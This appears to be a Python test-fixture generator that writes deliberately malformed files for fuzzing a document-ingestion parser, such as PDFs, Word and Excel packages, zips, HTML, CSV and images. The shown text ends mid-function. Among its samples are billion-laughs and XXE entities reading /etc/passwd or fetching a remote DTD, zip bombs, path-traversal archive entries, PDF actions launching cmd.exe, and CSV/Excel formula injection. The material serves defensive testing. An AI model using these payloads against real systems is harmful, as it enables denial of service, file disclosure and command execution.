"""Files made to do harm, each with what is expected of it; the same for the same seed.

`python -m tests.ingest.apart.hostile FOLDER` writes them all.
"""

import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

READ, REFUSED, EITHER = "read", "refused", "either"
"""Read: harmless though odd. Refused: must be an error. Either: damage that may or may not leave a text."""
SENTENCES = "第一条 为规范县域金融服务，制定本办法。第二条 涉农贷款余额应当逐年增长。"
GIGABYTE = 1 << 30


@dataclass(frozen=True)
class Hostile:
    """A file's name, its bytes, and whether it must be read or refused."""

    name: str
    content: bytes
    expected: str


def hostile_files(seed: int = 20250) -> Iterator[Hostile]:
    """All of them, one after another; some hold tens of megabytes."""
    chance = random.Random(seed)
    for make in (pdfs, encrypted_pdfs, documents, workbooks, zips, pages, sheets, images, legacies, impostors, names):
        yield from make(chance)


# Pieces


def zero_stream(size: int) -> bytes:
    """A zlib stream that inflates to `size` zeros, made of repeated blocks so that it costs no time."""
    return b"\x78\x9c" + zero_blocks(size) + b"\x03\x00" + struct.pack(">I", (size % 65521) << 16 | 1)


def zero_blocks(size: int) -> bytes:
    deflate = zlib.compressobj(9, wbits=-15)
    block = deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return block * (size >> 20)


def flipped(content: bytes, chance: random.Random, flips: int) -> bytes:
    changed = bytearray(content)
    for _ in range(flips):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def damaged(stem: str, suffix: str, content: bytes, chance: random.Random, count: int) -> Iterator[Hostile]:
    for i in range(count):
        yield Hostile(f"{stem}截断{i}{suffix}", content[: chance.randrange(1, len(content))], EITHER)
        yield Hostile(f"{stem}翻位{i}{suffix}", flipped(content, chance, 1 << i % 8), EITHER)


def rezipped(content: bytes, changes: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    """A zip with some entries replaced, added or left out."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename not in changes and info.filename not in drop:
                new.writestr(info.filename, old.read(info))
        for name, value in changes.items():
            new.writestr(name, value, zipfile.ZIP_STORED if name.endswith(".zip") else None)
    return made.getvalue()


def raw_zip(entries: list[tuple[bytes, bytes, dict[str, int]]]) -> bytes:
    """A zip by hand: (name, stored bytes, fields of the headers that lie)."""
    made, directory = bytearray(), bytearray()
    for name, data, lies in entries:
        fields = {"flags": 0, "method": 8, "crc": 0, "packed": len(data), "size": len(data), "offset": len(made)} | lies
        shared = struct.pack(
            "<HHIIIIHH",
            fields["flags"],
            fields["method"],
            0,
            fields["crc"],
            fields["packed"],
            fields["size"],
            len(name),
            0,
        )
        if "offset" not in lies:
            made += b"PK\x03\x04\x14\0" + shared + name + data
        directory += b"PK\x01\x02\x14\0\x14\0" + shared + bytes(10) + struct.pack("<I", fields["offset"]) + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(made), 0)
    return bytes(made + directory) + end


# PDF


def pdf(objects: list[bytes], trailer: bytes = b"", root: int = 1) -> bytes:
    """A PDF of these objects (the first is number 1) with a cross-reference table that is right."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    made_table = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    start = b"startxref\n%d\n%%%%EOF\n" % len(made)
    return bytes(made) + made_table + b"trailer\n<</Size %d/Root %d 0 R%s>>\n" % (size, root, trailer) + start


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), entries, content)


WORDS = b"BT /F1 12 Tf 72 720 Td (The balance of loans to farmers rose by 12 percent in 2024.) Tj ET\n"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def page(extra: bytes = b"", box: bytes = b"0 0 595 842") -> bytes:
    resources = b"/Resources<</Font<</F1 5 0 R>>%s>>" % extra
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R%s>>" % (box, resources)


def pdfs(chance: random.Random) -> Iterator[Hostile]:
    good = pdf([CATALOG, TREE, page(), stream(WORDS * 20), FONT])
    yield Hostile("完好.pdf", good, READ)
    yield from damaged("pdf", ".pdf", good, chance, 14)
    bomb = stream(zero_stream(GIGABYTE), b"/Filter/FlateDecode")
    twice = stream(zlib.compress(zero_stream(GIGABYTE)), b"/Filter[/FlateDecode/FlateDecode]")
    image = b"<</Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceRGB/Length 3>>"
    form = stream(b"/X Do " * 50, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    for name, expected, objects in (
        ("页树自环", EITHER, [CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"]),
        ("页树互环", EITHER, [CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 9>>", b"<</Type/Pages/Kids[2 0 R]/Count 9>>"]),
        ("页数谎报", EITHER, [CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", page(), stream(WORDS), FONT]),
        ("页数为负", EITHER, [CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count -5>>", page(), stream(WORDS), FONT]),
        ("没有页", REFUSED, [CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"]),
        (
            "五千页",
            REFUSED,
            [CATALOG, b"<</Type/Pages/Count 5000/Kids[%s]>>" % (b"3 0 R " * 5000), page(), stream(WORDS), FONT],
        ),
        ("空白页", REFUSED, [CATALOG, TREE, page(), stream(b""), FONT]),
        ("巨幅页面", EITHER, [CATALOG, TREE, page(box=b"0 0 1e9 1e9"), stream(WORDS), FONT]),
        ("负幅页面", EITHER, [CATALOG, TREE, page(box=b"0 0 -5 -5"), stream(WORDS), FONT]),
        ("非数页面", EITHER, [CATALOG, TREE, page(box=b"0 0 nan inf"), stream(WORDS), FONT]),
        ("巨幅空页", REFUSED, [CATALOG, TREE, page(box=b"0 0 14400 1440000000"), stream(b"q 1 0 0 1 0 0 cm Q"), FONT]),
        ("深层数组", EITHER, [CATALOG, TREE, page(), stream(b"[" * 200_000 + WORDS), FONT]),
        (
            "深层字典",
            EITHER,
            [CATALOG, TREE, page(b"/Z " + b"<</A" * 50_000 + b" 1" + b">>" * 50_000), stream(WORDS), FONT],
        ),
        ("内容炸弹", EITHER, [CATALOG, TREE, page(), bomb, FONT]),
        ("双层炸弹", EITHER, [CATALOG, TREE, page(), twice, FONT]),
        (
            "滤镜长链",
            EITHER,
            [CATALOG, TREE, page(), stream(zlib.compress(WORDS), b"/Filter[%s]" % (b"/FlateDecode" * 3000)), FONT],
        ),
        (
            "巨图",
            EITHER,
            [
                CATALOG,
                TREE,
                page(b"/XObject<</X 6 0 R>>"),
                stream(b"q 500 0 0 700 0 0 cm /X Do Q"),
                FONT,
                image % (100_000, 100_000) + b"\nstream\nabc\nendstream",
            ],
        ),
        ("递归表单", EITHER, [CATALOG, TREE, page(b"/XObject<</X 6 0 R>>"), stream(WORDS + b"/X Do"), FONT, form]),
        ("百万对象", EITHER, [CATALOG, TREE, page(), stream(WORDS), FONT, *[b"null"] * 200_000]),
        ("百万字符", EITHER, [CATALOG, TREE, page(), stream(WORDS * 60_000), FONT]),
        (
            "六百万字",
            REFUSED,
            [CATALOG, b"<</Type/Pages/Count 1800/Kids[%s]>>" % (b"3 0 R " * 1800), page(), stream(WORDS * 60), FONT],
        ),
        ("百万线条", EITHER, [CATALOG, TREE, page(), stream(WORDS + b"1 1 m 500 700 l S\n" * 300_000), FONT]),
        ("密网表格", EITHER, [CATALOG, TREE, page(), stream(WORDS + mesh(400)), FONT]),
        (
            "脚本动作",
            READ,
            [CATALOG[:-2] + b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", TREE, page(), stream(WORDS), FONT],
        ),
        (
            "启动程序",
            READ,
            [CATALOG[:-2] + b"/OpenAction<</S/Launch/F(cmd.exe)>>>>", TREE, page(), stream(WORDS), FONT],
        ),
        ("外部内容", EITHER, [CATALOG, TREE, page(), b"<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream", FONT]),
        ("根为页", EITHER, [b"3 0 R", TREE, page(), stream(WORDS), FONT]),
        ("引用自身", EITHER, [CATALOG, TREE, page(), b"4 0 R", b"5 0 R"]),
        ("长度谎报", EITHER, [CATALOG, TREE, page(), b"<</Length 999999999>>\nstream\n%s\nendstream" % WORDS, FONT]),
        (
            "对象流自环",
            EITHER,
            [CATALOG, TREE, page(), stream(b"4 0 null", b"/Type/ObjStm/N 1/First 4/Extends 4 0 R"), FONT],
        ),
        (
            "字码表炸弹",
            EITHER,
            [
                CATALOG,
                TREE,
                page(),
                stream(WORDS),
                FONT[:-2] + b"/ToUnicode 6 0 R>>",
                stream(b"1 beginbfrange <00> <ff> <%s> endbfrange" % (b"4e00" * 500_000)),
            ],
        ),
    ):
        yield Hostile(f"{name}.pdf", pdf(list(objects)), expected)
    yield Hostile("索引自环.pdf", pdf([CATALOG, TREE, page(), stream(WORDS), FONT], b"/Prev 9"), EITHER)
    yield Hostile("只有开头.pdf", b"%PDF-1.7\n", REFUSED)
    yield Hostile("开头之后是乱码.pdf", b"%PDF-1.7\n" + chance.randbytes(100_000), REFUSED)
    yield Hostile("无数startxref.pdf", b"%PDF-1.7\n" + b"startxref\n9\n%%EOF\n" * 200_000, REFUSED)


def mesh(lines: int) -> bytes:
    """A grid of so many rules each way: a table of lines² cells for whoever looks for tables."""
    across = b"".join(b"50 %d m 550 %d l S\n" % (50 + i, 50 + i) for i in range(lines))
    return across + b"".join(b"%d 50 m %d 750 l S\n" % (50 + i, 50 + i) for i in range(lines))


def encrypted_pdfs(_: random.Random) -> Iterator[Hostile]:
    from fpdf import FPDF
    from fpdf.enums import EncryptionMethod

    for method in (EncryptionMethod.RC4, EncryptionMethod.AES_128, EncryptionMethod.AES_256):
        for password, expected in (("secret", REFUSED), ("", READ)):
            made = FPDF()
            made.set_encryption("owner", password, encryption_method=method)
            made.add_page()
            made.set_font("Helvetica", size=12)
            made.multi_cell(0, text="The balance of loans to farmers rose by 12 percent in 2024. " * 5)
            name = f"加密{method.name}{'有' if password else '无'}口令.pdf"
            yield Hostile(name, bytes(made.output()), expected)


# Word


def good_document() -> bytes:
    from docx import Document

    made, document = io.BytesIO(), Document()
    document.add_heading("县域金融服务办法", 1)
    for _ in range(20):
        document.add_paragraph(SENTENCES)
    table = document.add_table(3, 3)
    for cell in table._cells:
        cell.text = "12.5"
    document.save(made)
    return made.getvalue()


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BODY = "word/document.xml"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (c + 1, b"&%c;" % c * 10) for c in range(ord("a"), ord("j")))
    + b"]><lol>&j;</lol>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % f SYSTEM "http://192.0.2.1/x.dtd"> %f;]><x/>'
TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
)


def body(inner: str) -> bytes:
    return f'<w:document xmlns:w="{WORD}"><w:body>{inner}</w:body></w:document>'.encode()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def nested_tables(depth: int) -> str:
    cell = "<w:tbl><w:tr><w:tc>"
    return cell * depth + paragraph(SENTENCES) + "</w:tc></w:tr></w:tbl>" * depth


def documents(chance: random.Random) -> Iterator[Hostile]:
    good = good_document()
    yield Hostile("完好.docx", good, READ)
    yield from damaged("docx", ".docx", good, chance, 12)
    quadratic = b'<!DOCTYPE x [<!ENTITY a "%s">]><x>%s</x>' % (b"a" * 100_000, b"&a;" * 100_000)
    wide = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>'
    wide += paragraph("宽") + "</w:tc></w:tr></w:tbl>"
    for name, expected, changes in (
        ("十亿大笑", REFUSED, {BODY: LAUGHS}),
        ("部件里的大笑", REFUSED, {"customXml/item9.xml": LAUGHS}),
        ("改名部件里的大笑", REFUSED, {"word/media/image9.png": LAUGHS}),
        ("平方膨胀", REFUSED, {BODY: quadratic}),
        ("外部实体", REFUSED, {BODY: OUTSIDE}),
        (
            "双字节外部实体",
            REFUSED,
            {BODY: OUTSIDE.decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")},
        ),
        ("参数实体", REFUSED, {BODY: PARAMETER}),
        ("关系里的实体", REFUSED, {"word/_rels/document.xml.rels": OUTSIDE}),
        ("正文炸弹", REFUSED, {BODY: body(paragraph("字" * 15_000_000))}),
        ("空格炸弹", REFUSED, {BODY: body(" " * 30_000_000)}),
        ("部件炸弹", REFUSED, {"word/media/image1.bin": bytes(30_000_000)}),
        (
            "套娃压缩包",
            READ,
            {"word/embeddings/inner.zip": raw_zip([(b"z", zero_blocks(GIGABYTE), {"size": GIGABYTE})])},
        ),
        ("套娃文档", READ, {"word/embeddings/self.docx": good}),
        ("万个部件", REFUSED, {f"word/media/{i}.png": b"" for i in range(10_000)}),
        ("深层XML", EITHER, {BODY: body("<w:p>" * 100_000 + "</w:p>" * 100_000)}),
        ("深层表格", EITHER, {BODY: body(nested_tables(3_000))}),
        ("五十层表格", EITHER, {BODY: body(nested_tables(40))}),
        ("跨十亿列", EITHER, {BODY: body(wide + paragraph(SENTENCES))}),
        ("十万段", EITHER, {BODY: body(paragraph("县域金融。") * 100_000)}),
        (
            "六百万字",
            REFUSED,
            {BODY: body("".join(paragraph(f"{i}" * 100 + chance.randbytes(200).hex()) for i in range(13_000)))},
        ),
        (
            "巨大属性",
            EITHER,
            {BODY: body(f'<w:p w:rsidR="{chance.randbytes(6_000_000).hex()}"/>' + paragraph(SENTENCES))},
        ),
        ("未闭合", REFUSED, {BODY: body(paragraph(SENTENCES))[:-20]}),
        ("空正文部件", REFUSED, {BODY: b""}),
        ("乱码正文部件", REFUSED, {BODY: chance.randbytes(10_000)}),
        ("无正文", REFUSED, {BODY: body("")}),
        ("外部模板", READ, {"word/_rels/settings.xml.rels": TEMPLATE}),
        ("上级目录", REFUSED, {"../../evil.xml": b"<x/>"}),
        ("绝对路径", REFUSED, {"/etc/cron.d/evil": b"x"}),
        ("盘符路径", REFUSED, {"C:/evil.exe": b"x"}),
        ("反斜杠路径", REFUSED, {"word\\..\\evil.xml": b"<x/>"}),
    ):
        yield Hostile(f"{name}.docx", rezipped(good, changes), expected)
    yield Hostile("缺正文部件.docx", rezipped(good, {}, drop=(BODY,)), REFUSED)
    yield Hostile("缺类型表.docx", rezipped(good, {}, drop=("[Content_Types].xml",)), EITHER)


# Excel


def good_workbook() -> bytes:
    from openpyxl import Workbook

    made, book = io.BytesIO(), Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["县", "涉农贷款余额（亿元）"])
    for i in range(50):
        sheet.append([f"第{i}县", 12.5 + i])
    book.save(made)
    return made.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
CELLS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def cells(rows: str, before: str = "", behind: str = "") -> bytes:
    return f'<worksheet xmlns="{CELLS}">{before}<sheetData>{rows}</sheetData>{behind}</worksheet>'.encode()


def cell(place: str, text: str = "余额") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def workbooks(chance: random.Random) -> Iterator[Hostile]:
    good = good_workbook()
    yield Hostile("完好.xlsx", good, READ)
    yield from damaged("xlsx", ".xlsx", good, chance, 12)
    first = f'<row r="1">{cell("A1", "县")}{cell("B1")}</row>'
    everything = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    many = "".join(f'<row r="{i}">{cell(f"A{i}")}{cell(f"B{i}", str(i))}</row>' for i in range(1, 100_001))
    shared = "xl/sharedStrings.xml"
    for name, expected, changes in (
        ("谎报百万行", READ, {SHEET: cells(first, '<dimension ref="A1:XFD1048576"/>')}),
        ("远角一格", EITHER, {SHEET: cells(first + f'<row r="1048576">{cell("XFD1048576")}</row>')}),
        ("界外一格", EITHER, {SHEET: cells(first + f'<row r="99999999">{cell("ZZZZ99999999")}</row>')}),
        ("整表合并", EITHER, {SHEET: cells(first, behind=everything)}),
        ("十万行", EITHER, {SHEET: cells(many)}),
        ("倒退的行号", EITHER, {SHEET: cells(f'<row r="-5">{cell("A-5")}</row>' + first)}),
        ("共享串越界", EITHER, {SHEET: cells('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')}),
        ("共享串炸弹", REFUSED, {shared: f'<sst xmlns="{CELLS}"><si><t>{"串" * 10_000_000}</t></si></sst>'.encode()}),
        ("共享串大笑", REFUSED, {shared: LAUGHS}),
        ("工作表实体", REFUSED, {SHEET: OUTSIDE}),
        (
            "无穷数值",
            EITHER,
            {SHEET: cells(first + '<row r="2"><c r="A2"><v>1e999</v></c><c r="B2"><v>nan</v></c></row>')},
        ),
        ("远古日期", EITHER, {SHEET: cells(first + '<row r="2"><c r="A2" t="d"><v>99999-99-99</v></c></row>')}),
        ("循环公式", EITHER, {SHEET: cells(first + '<row r="2"><c r="A2"><f>A2+1</f></c></row>')}),
        (
            "外部命令公式",
            EITHER,
            {SHEET: cells(first + "<row r='2'><c r='A2'><f>cmd|&apos;/c calc&apos;!A0</f><v>1</v></c></row>")},
        ),
        ("空表", REFUSED, {SHEET: cells("")}),
        ("深层XML", EITHER, {SHEET: cells("<row>" * 50_000 + "</row>" * 50_000)}),
    ):
        yield Hostile(f"{name}.xlsx", rezipped(good, changes), expected)
    yield Hostile("缺工作簿.xlsx", rezipped(good, {}, drop=("xl/workbook.xml",)), REFUSED)


# Zip


def zips(_: random.Random) -> Iterator[Hostile]:
    types = (b"[Content_Types].xml", b"", {"method": 0})
    zeros = zero_blocks(GIGABYTE) + b"\x03\x00"
    main = b"word/document.xml"
    for suffix in (".docx", ".odt", ".ofd", ".epub", ".pptx"):
        bomb = [types, (main, zeros, {"size": GIGABYTE & 0xFFFFFFFF})]
        yield Hostile(f"压缩炸弹{suffix}", raw_zip(bomb), REFUSED)
    yield Hostile("大小谎报.docx", raw_zip([types, (main, zeros, {"size": 100})]), REFUSED)
    yield Hostile(
        "大小谎报且校验相符.docx",
        raw_zip([types, (main, zeros, {"size": 100, "crc": zlib.crc32(bytes(100))})]),
        REFUSED,
    )
    overlapping = [types, (main, zeros[:5_000_000], {"size": 1 << 29})]
    overlapping += [(b"word/%d.xml" % i, zeros[:5_000_000], {"size": 1 << 29, "offset": 49}) for i in range(1000)]
    yield Hostile("重叠部件.docx", raw_zip(overlapping), REFUSED)
    plain = body(paragraph(SENTENCES))
    ours = {"method": 0, "crc": zlib.crc32(plain)}
    for name, fields in (
        ("加密部件", {"flags": 1}),
        ("冷门压缩法", {"method": 12}),
        ("未知压缩法", {"method": 99}),
        ("校验不符", {"crc": 1}),
        ("越界偏移", {"offset": 0x7FFFFFFF}),
    ):
        yield Hostile(f"{name}.docx", raw_zip([types, (main, plain, ours | fields)]), REFUSED)
    yield Hostile("空字符部件名.docx", raw_zip([types, (main + b"\0.png", plain, ours)]), REFUSED)
    yield Hostile("重名部件.docx", raw_zip([types, (main, plain, ours), (main, plain, ours)]), REFUSED)
    yield Hostile("空压缩包.docx", raw_zip([]), REFUSED)
    yield Hostile("只有目录.docx", raw_zip([types, (main, plain, ours)])[len(plain) + 60 :], REFUSED)
    yield Hostile("六万部件.docx", raw_zip([(b"word/%d" % i, b"", {"method": 0}) for i in range(60_000)]), REFUSED)


# HTML, CSV


def pages(chance: random.Random) -> Iterator[Hostile]:
    text = f"<p>{SENTENCES * 10}</p>"
    for name, expected, content in (
        ("完好", READ, f"<!doctype html><meta charset=utf-8><title>办法</title><body><h1>办法</h1>{text}"),
        ("深层div", EITHER, "<div>" * 100_000 + text + "</div>" * 100_000),
        ("深层表格", EITHER, "<table><tr><td>" * 20_000 + text),
        ("深层列表", EITHER, "<ul><li>" * 50_000 + text),
        ("深层b", EITHER, "<b><p>" * 20_000 + text),
        ("格式错配", EITHER, "<a><b><i><u>" * 10_000 + "</a></b></i></u>" * 10_000 + text),
        ("未闭合标签", EITHER, text + "<" * 500_000),
        ("巨大属性", EITHER, f'<p title="{"a" * 10_000_000}">{SENTENCES}</p>'),
        ("百万属性", EITHER, "<p " + " ".join(f"a{i}=1" for i in range(300_000)) + f">{SENTENCES}</p>"),
        ("跨行十亿", EITHER, f"<table><tr><td rowspan=1000000000 colspan=1000000000>余额<td>1</table>{text}"),
        ("跨行连环", EITHER, "<table>" + "<tr><td rowspan=65534 colspan=1000>余额" * 300 + f"</table>{text}"),
        ("实体洪水", EITHER, "&lt;&#x4e00;" * 300_000),
        ("无效实体", EITHER, text + "&#x110000;&#xd800;&#0;&nosuch;"),
        ("外部实体", EITHER, f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>{text}'),
        ("只有脚本", REFUSED, "<script>while(1){}</script><style>p{}</style>"),
        ("刷新跳转", READ, f'<meta http-equiv=refresh content="0;url=http://192.0.2.1/">{text}'),
        ("框架", READ, f"<iframe src=file:///etc/passwd></iframe><img src=http://192.0.2.1/x.png>{text}"),
        ("内嵌图片", READ, f'<img src="data:image/png;base64,{"A" * 5_000_000}">{text}'),
        ("一行八百万字", REFUSED, f"<p>{'县域金融' * 2_000_000}</p>"),
        ("方向控制符", EITHER, f"<p>\u202e{SENTENCES}\u202c\u200b\ufeff</p>{text}"),
        ("条件注释", READ, f"<!--[if mso]><xml>{'x' * 1000}</xml><![endif]-->{text}"),
        ("注释不闭合", EITHER, text + "<!--" * 100_000),
    ):
        yield Hostile(f"{name}.html", content.encode("utf-8", "surrogatepass"), expected)
    yield Hostile("声明谎报.html", f"<meta charset=utf-7>{text}".encode("gb18030"), EITHER)
    yield Hostile("西文乱码.html", bytes(chance.choices(range(0xA0, 0x100), k=50_000)), EITHER)


def sheets(chance: random.Random) -> Iterator[Hostile]:
    head = "县,余额\n"
    for name, expected, content in (
        ("完好", READ, (head + "青山县,12.5\n" * 30).encode()),
        ("五百万字一行", EITHER, (head + "余" * 5_000_000).encode()),
        ("百万列", EITHER, (",".join("列" for _ in range(1_000_000)) + "\n" + "1," * 999_999).encode()),
        ("百万逗号", EITHER, ("," * 4_000_000).encode()),
        ("引号不闭合", EITHER, (head + '"' + "甲,乙\n" * 500_000).encode()),
        ("三十万行", EITHER, (head + "青山县,12.5\n" * 300_000).encode()),
        ("百万空行", EITHER, (head + "\n" * 3_000_000 + "青山县,1\n").encode()),
        ("参差不齐", EITHER, (head + "".join("1," * (i % 900) + "\n" for i in range(3_000))).encode()),
        ("公式注入", READ, (head + "=cmd|'/c calc'!A0,+1+1\n@SUM(1),-2\n").encode()),
        ("含空字符", REFUSED, (head + "青山县\0,1\n").encode()),
        ("双字节", READ, (head + "青山县,12.5\n").encode("utf-16")),
        ("国标编码", READ, (head + "青山县,12.5\n" * 20).encode("gb18030")),
        ("西文乱码", EITHER, bytes(chance.choices(range(0xA0, 0x100), k=100_000))),
        ("随机字节", REFUSED, chance.randbytes(100_000)),
        ("只有换行", REFUSED, b"\n\r\n" * 1_000),
        ("只有BOM", REFUSED, b"\xef\xbb\xbf"),
    ):
        yield Hostile(f"{name}.csv", content, expected)
    yield Hostile("制表符.tsv", "县\t余额\n青山县\t12.5\n".encode(), READ)


# Pictures


def png(width: int, height: int, data: bytes, extra: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def tiff(entries: list[tuple[int, int, int, int]], following: int = 0, pad: int = 0) -> bytes:
    """A TIFF with one directory of (tag, type, count, value) entries and the offset of the next directory."""
    rows = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + rows + struct.pack("<I", following) + bytes(pad)


def images(chance: random.Random) -> Iterator[Hostile]:
    small = png(64, 64, zlib.compress(bytes((64 * 3 + 1) * 64)))
    size = [
        (256, 4, 1, 64),
        (257, 4, 1, 64),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 200),
        (278, 4, 1, 64),
        (279, 4, 1, 4096),
    ]
    huge = [(256, 4, 1, 0x7FFFFFFF), (257, 4, 1, 0x7FFFFFFF), *size[2:]]
    gif = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\0\0\0" + b"\x2c" + struct.pack("<HHHH", 0, 0, 65535, 65535)
    for name, expected, content in (
        ("空白小图.png", REFUSED, small),
        ("三万见方.png", REFUSED, png(30_000, 30_000, zero_stream(2_700 << 20))),
        ("三万见方无数据.png", REFUSED, png(30_000, 30_000, b"")),
        ("二十亿见方.png", REFUSED, png(0x7FFFFFFF, 0x7FFFFFFF, zlib.compress(b"0"))),
        ("零宽.png", REFUSED, png(0, 0, b"")),
        ("细长.png", REFUSED, png(60_000, 1, zlib.compress(bytes(180_001)))),
        (
            "文字块炸弹.png",
            REFUSED,
            png(64, 64, zlib.compress(bytes(12_352)), chunk(b"zTXt", b"a\0\0" + zero_stream(GIGABYTE))),
        ),
        ("截断.png", REFUSED, small[:60]),
        ("翻位.png", REFUSED, flipped(small, chance, 5)),
        ("目录自环.tif", REFUSED, tiff(size, following=8, pad=4300)),
        ("巨幅.tif", REFUSED, tiff(huge, pad=4300)),
        ("空目录.tif", REFUSED, tiff([])),
        ("目录越界.tif", REFUSED, b"II*\0\xff\xff\xff\x7f"),
        ("截断.jpg", REFUSED, b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01"),
        ("乱码.jpg", REFUSED, b"\xff\xd8\xff" + chance.randbytes(20_000)),
        ("巨幅.gif", REFUSED, gif + b"\0\x02\x02\x44\x01\0;"),
        (
            "巨幅.bmp",
            REFUSED,
            b"BM" + struct.pack("<IHHIIiiHHIIiiII", 1000, 0, 0, 54, 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0),
        ),
        ("乱码.webp", REFUSED, b"RIFF\xff\xff\xff\x7fWEBPVP8L" + chance.randbytes(1_000)),
        ("矢量图.png", REFUSED, b'<svg xmlns="http://www.w3.org/2000/svg"><text>1</text></svg>'),
    ):
        yield Hostile(name, content, expected)


# Old formats, wrong names


def legacies(chance: random.Random) -> Iterator[Hostile]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    loop = (
        ole
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(10)
        + struct.pack("<6I", 1, 0, 0, 4096, 0, 0)
    )
    for name, expected, content in (
        ("乱码.doc", REFUSED, ole + chance.randbytes(50_000)),
        ("扇区自环.doc", REFUSED, loop + bytes(4) * 2 + bytes(436) + bytes(4096)),
        ("只有开头.xls", REFUSED, ole),
        ("乱码.wps", REFUSED, chance.randbytes(20_000)),
        ("深层组.rtf", EITHER, b"{\\rtf1" + b"{" * 200_000 + b"text" + b"}" * 200_001),
        ("二进制段.rtf", EITHER, b"{\\rtf1\\bin2147483647 " + bytes(1_000) + b"}"),
        ("对象.rtf", EITHER, b"{\\rtf1{\\object\\objdata " + b"41" * 500_000 + b"}text}"),
        ("假的.ppt", REFUSED, chance.randbytes(5_000)),
        ("空.et", REFUSED, b""),
        ("网页.xls", EITHER, b"<html><table>" + b"<tr><td>1" * 1_000),
        ("外部实体.odt", REFUSED, opendocument(OUTSIDE)),
        ("十亿大笑.odt", REFUSED, opendocument(LAUGHS)),
        ("十亿大笑.ofd", REFUSED, rezipped(raw_zip([]), {"OFD.xml": LAUGHS})),
        (
            "上级目录.epub",
            REFUSED,
            rezipped(raw_zip([]), {"mimetype": b"application/epub+zip", "../../x.html": b"<p>x"}),
        ),
    ):
        yield Hostile(name, content, expected)


def opendocument(content: bytes) -> bytes:
    return rezipped(raw_zip([]), {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content})


def impostors(chance: random.Random) -> Iterator[Hostile]:
    program = b"MZ\x90\0\x03\0\0\0" + chance.randbytes(5_000)
    binary = b"\x7fELF\x02\x01\x01\0" + chance.randbytes(5_000)
    archive = b"Rar!\x1a\x07\x01\0" + chance.randbytes(5_000)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)
    good, book, picture = good_document(), good_workbook(), png(8, 8, zlib.compress(bytes(200)))
    paper, text = pdf([CATALOG, TREE, page(), stream(WORDS), FONT]), SENTENCES.encode()
    for suffix, wrong in (
        (".docx", (program, binary, archive, ole, book, picture, paper, text)),
        (".pdf", (program, good, picture, text, ole)),
